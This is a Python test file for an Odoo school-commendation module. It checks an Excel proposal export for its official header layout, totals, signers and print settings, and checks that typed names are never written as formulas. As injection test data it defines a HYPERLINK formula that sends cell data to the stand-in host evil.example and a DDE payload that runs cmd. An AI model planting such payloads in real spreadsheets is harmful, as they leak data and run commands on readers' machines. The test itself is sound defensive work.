"""A real Excel export as the commune files it (issue 17): the school's superior
body and the school, the national motto, the list, its totals, place and date and
the signers; printed A4 landscape one page wide with the header row repeated; and
nothing a teacher typed into a name or an achievement becomes a formula."""

import io
import zipfile

import openpyxl

from odoo import Command
from odoo.tests import tagged

from odoo.addons.school_emulation.tests.common import SchoolEmulationCase

from ..tools.xlsx_builder import MOTTO, NATION

EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
EVIL_ACHIEVEMENT = "+cmd|' /C calc'!A0"


@tagged("post_install", "-at_install")
class TestXlsxExports(SchoolEmulationCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls._setup_school()
        cls.school_a.write(
            {
                "emulation_superior_name": "UBND xã Xuân Sơn",
                "emulation_place": "Xuân Sơn",
                "emulation_head_name": "Nguyễn Văn Hùng",
            }
        )
        cls.evil = cls.env["hr.employee"].create(
            {
                "name": EVIL_NAME,
                "department_id": cls.dept.id,
                "company_id": cls.school_a.id,
            }
        )
        cls.officer = cls.users["officer"]
        ldtt = cls.env.ref("school_emulation.title_ldtt_2025")
        cls.proposal = (
            cls.env["school.emulation.proposal"]
            .with_user(cls.officer)
            .create(
                {
                    "period_id": cls.year.id,
                    "level": "school",
                    "authority_id": cls.env.ref(
                        "school_emulation.authority_commune_chair"
                    ).id,
                    "company_id": cls.school_a.id,
                    "line_ids": [
                        Command.create(
                            {
                                "subject_type": "employee",
                                "employee_id": emp.id,
                                "title_id": ldtt.id,
                                "achievement": achievement,
                            }
                        )
                        for emp, achievement in (
                            (cls.emp_staff, "Hoàn thành tốt nhiệm vụ"),
                            (cls.evil, EVIL_ACHIEVEMENT),
                        )
                    ],
                }
            )
        )

    def _export(self):
        action = self.proposal.with_user(self.officer).action_export_xlsx()
        attachment = self.env["ir.attachment"].browse(
            int(action["url"].split("/")[3].split("?")[0])
        )
        return attachment.with_user(self.officer).raw

    def test_proposal_list_as_the_commune_files_it(self):
        """Rule: the list carries the NĐ 30/2020 frame (agency left, motto right),
        its title, every candidate, a totals row, the place and date and the two
        signers, the principal's name from the school's settings."""
        data = self._export()
        ws = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
        values = [c.value for row in ws.iter_rows() for c in row if c.value]
        self.assertEqual(ws["A1"].value, "UBND XÃ XUÂN SƠN")
        self.assertEqual(ws["A2"].value, "THCS TEST A")
        self.assertIn(NATION, values)
        self.assertIn(MOTTO, values)
        self.assertIn("2040-2041", ws["A4"].value)  # the title, with the year
        header = next(
            r for r in range(1, 12) if ws.cell(row=r, column=1).border.top.style
        )
        self.assertEqual(ws.freeze_panes, f"A{header + 1}")
        self.assertEqual(ws.print_title_rows.replace("$", ""), f"{header}:{header}")
        names = [ws.cell(row=r, column=2).value for r in (header + 1, header + 2)]
        self.assertEqual(names, ["Giáo viên", EVIL_NAME])
        self.assertEqual(ws.cell(row=header + 1, column=1).value, 1)
        # totals: 2 individuals, 0 collectives (the label names the counts)
        total = ws.cell(row=header + 3, column=2).value
        self.assertIn("2", total)
        self.assertTrue(ws.cell(row=header + 3, column=2).font.b)
        self.assertTrue(any("Xuân Sơn, ngày" in str(v) for v in values))
        self.assertIn("Nguyễn Văn Hùng", values)  # the head signs
        self.assertIn(self.officer.name, values)  # who prepared it
        self.assertEqual(ws.page_setup.orientation, "landscape")
        self.assertEqual(int(ws.page_setup.paperSize), 9)
        self.assertTrue(ws.sheet_properties.pageSetUpPr.fitToPage)
        self.assertEqual(ws.page_setup.fitToHeight, 0)

    def test_typed_text_is_never_a_formula(self):
        """Rule: a name or an achievement starting with =, +, -, @ is written as
        text: the workbook has no formula and no link."""
        data = self._export()
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            xml = archive.read("xl/worksheets/sheet1.xml").decode()
        self.assertNotIn("<f>", xml)
        self.assertNotIn("hyperlink", xml.lower())
        ws = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
        cells = {
            c.value: c
            for row in ws.iter_rows()
            for c in row
            if c.value in (EVIL_NAME, EVIL_ACHIEVEMENT)
        }
        self.assertEqual(set(cells), {EVIL_NAME, EVIL_ACHIEVEMENT})
        self.assertEqual({c.data_type for c in cells.values()}, {"s"})
